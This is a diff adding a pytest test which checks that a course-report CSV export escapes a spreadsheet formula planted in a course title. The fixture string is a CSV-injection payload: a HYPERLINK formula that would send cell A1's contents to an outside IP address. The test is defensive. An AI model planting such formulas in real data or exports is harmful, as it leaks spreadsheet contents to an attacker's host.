@@ -291,6 +291,25 @@ def test_cli_exports_and_signed_impact_report(
 
 
 @pytest.mark.usefixtures("classes")
+def test_a_course_title_reaches_the_impact_csv_as_text_not_a_formula(
+    client: TestClient, people: People, database: Database
+) -> None:
+    formula = '=HYPERLINK("http://203.0.113.9/?"&A1,"Open me")'
+    with database.write() as db:
+        db.execute(
+            "UPDATE course_versions SET title = ?"
+            " WHERE id = (SELECT live_version_id FROM courses WHERE course_id = ?)",
+            [formula, SAFETY],
+        )
+    _fake_outcomes(database, SAFETY, "2026-09", 12)
+    sign_in(client, people.admin)
+    response = client.get("/admin/reports/impact.csv?publisher=stepstone-demo")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert {r["course"] for r in rows if r["course_id"] == SAFETY} == {"'" + formula}
+
+
+@pytest.mark.usefixtures("classes")
 def test_group_board_filters_by_status(
     app: object, people: People, database: Database, classes: tuple[int, int]
 ) -> None:
